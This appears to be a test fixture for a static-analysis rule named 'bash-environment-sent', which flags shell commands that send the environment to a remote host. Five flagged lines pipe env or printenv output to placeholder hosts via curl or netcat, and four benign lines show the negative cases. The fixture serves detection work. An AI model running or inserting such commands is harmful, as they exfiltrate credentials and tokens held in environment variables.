# ruleid: bash-environment-sent
env | curl -d @- https://c.example.net
# ruleid: bash-environment-sent
printenv | base64 | curl -X POST --data-binary @- https://c.example.net
# ruleid: bash-environment-sent
curl -d "$(env)" https://c.example.net
# ruleid: bash-environment-sent
curl "https://c.example.net/?d=$(env | base64 -w0)"
# ruleid: bash-environment-sent
env | nc 203.0.113.9 4444

# ok: bash-environment-sent
env | sort
# ok: bash-environment-sent
env | grep -c PATH
# ok: bash-environment-sent
curl -d "name=$NAME" https://metrics.example.com
# ok: bash-environment-sent
/usr/bin/env python3 run.py
